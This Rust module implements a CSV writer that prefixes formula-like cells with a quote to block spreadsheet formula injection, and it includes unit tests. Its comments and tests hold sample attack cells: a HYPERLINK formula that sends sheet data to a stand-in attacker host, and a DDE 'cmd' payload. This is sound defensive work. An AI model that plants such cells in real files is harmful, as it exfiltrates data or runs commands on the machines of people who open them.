//! The one CSV writer of the product. Every CSV file Auskunft produces (the register
//! export today, the Art. 15 answer's CSV and any later one) is written through
//! [`CsvWriter`], so that no cell can attack the person who opens the file.
//!
//! Spreadsheet programs run a cell as a formula when it begins with `=`, `+`, `-` or
//! `@` (and some after a leading tab or carriage return), so a data source a steward
//! named `=HYPERLINK("https://attacker.example/?d="&D2;"x")` would send the sheet's
//! contents elsewhere. Following OWASP's rule on CSV injection, such a cell is written
//! with a single quote `'` in front; the spreadsheet shows it as text. The same
//! applies when the dangerous character follows leading white space, and to the
//! full-width forms `＝ ＋ － ＠` that some spreadsheet programs read as formulas too.
//!
//! Every cell is quoted, so a separator inside a cell cannot start a new cell even
//! when the reader splits on `;` (as spreadsheets set to German do) instead of `,`.
//!
//! A consequence of the rule: a legitimate negative number such as `-5` is written as
//! `'-5` and read as text. That is OWASP's rule; the exports are for reading, not for
//! calculating, and the JSON and XLSX exports keep values as they are.
//!
//! `csv::Writer` and `csv::WriterBuilder` are disallowed everywhere else by
//! `clippy.toml`, so a new CSV output cannot bypass this module by accident.

#![allow(clippy::disallowed_types, clippy::disallowed_methods)]

use std::borrow::Cow;
use std::io::Write;

use crate::error::{Error, Result};

/// Characters that make a spreadsheet read a cell as a formula when they begin it.
const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The cell as it is safe to write: prefixed with `'` when a spreadsheet would read
/// it as a formula (OWASP: it begins with `=`, `+`, `-`, `@`, tab or carriage return;
/// also after leading white space and in the full-width forms).
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    let starts_with_control = cell.starts_with(['\t', '\r']);
    let first_visible = cell.trim_start().chars().next();
    if starts_with_control || first_visible.is_some_and(|c| FORMULA_TRIGGERS.contains(&c)) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes CSV whose every cell is quoted and [neutralized](neutralize).
pub struct CsvWriter<W: Write> {
    inner: ::csv::Writer<W>,
}

fn failed(e: impl std::fmt::Display) -> Error {
    Error::Internal(format!("writing CSV: {e}"))
}

impl CsvWriter<Vec<u8>> {
    /// A writer into memory that starts with a UTF-8 byte order mark, so that
    /// spreadsheet programs read the text as UTF-8.
    pub fn for_spreadsheets() -> Self {
        Self::new(b"\xEF\xBB\xBF".to_vec())
    }
}

impl<W: Write> CsvWriter<W> {
    /// A writer into `out` (comma-separated, CRLF line ends, every cell quoted).
    pub fn new(out: W) -> Self {
        Self {
            inner: ::csv::WriterBuilder::new()
                .quote_style(::csv::QuoteStyle::Always)
                .terminator(::csv::Terminator::CRLF)
                .from_writer(out),
        }
    }

    /// Writes one row.
    pub fn write_row<I, T>(&mut self, row: I) -> Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = row
            .into_iter()
            .map(|cell| neutralize(cell.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells).map_err(failed)
    }

    /// Flushes and returns the output.
    pub fn finish(self) -> Result<W> {
        self.inner.into_inner().map_err(failed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_and_others_stay() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"https://attacker.example/?d=\"&D2;\"x\")",
                "'=HYPERLINK(\"https://attacker.example/?d=\"&D2;\"x\")",
            ),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("+49 30 1234567", "'+49 30 1234567"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\tplain", "'\tplain"),
            ("  =1+1", "'  =1+1"),
            ("\n=1+1", "'\n=1+1"),
            ("＝1+1", "'＝1+1"),
            ("-5", "'-5"),
            ("Shop database", "Shop database"),
            ("a=b", "a=b"),
            ("", ""),
            ("Müller", "Müller"),
        ] {
            assert_eq!(neutralize(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn every_cell_is_quoted_so_separators_cannot_open_a_cell() {
        let mut w = CsvWriter::new(Vec::new());
        w.write_row(["a;=1+1", "x,\"=y\"", "=z"]).unwrap();
        w.write_row(["plain", "", "-5"]).unwrap();
        let text = String::from_utf8(w.finish().unwrap()).unwrap();
        assert_eq!(
            text,
            "\"a;=1+1\",\"x,\"\"=y\"\"\",\"'=z\"\r\n\"plain\",\"\",\"'-5\"\r\n"
        );
    }

    #[test]
    fn spreadsheet_files_start_with_a_byte_order_mark() {
        let mut w = CsvWriter::for_spreadsheets();
        w.write_row(["-1"]).unwrap();
        assert_eq!(w.finish().unwrap(), b"\xEF\xBB\xBF\"'-1\"\r\n");
    }
}
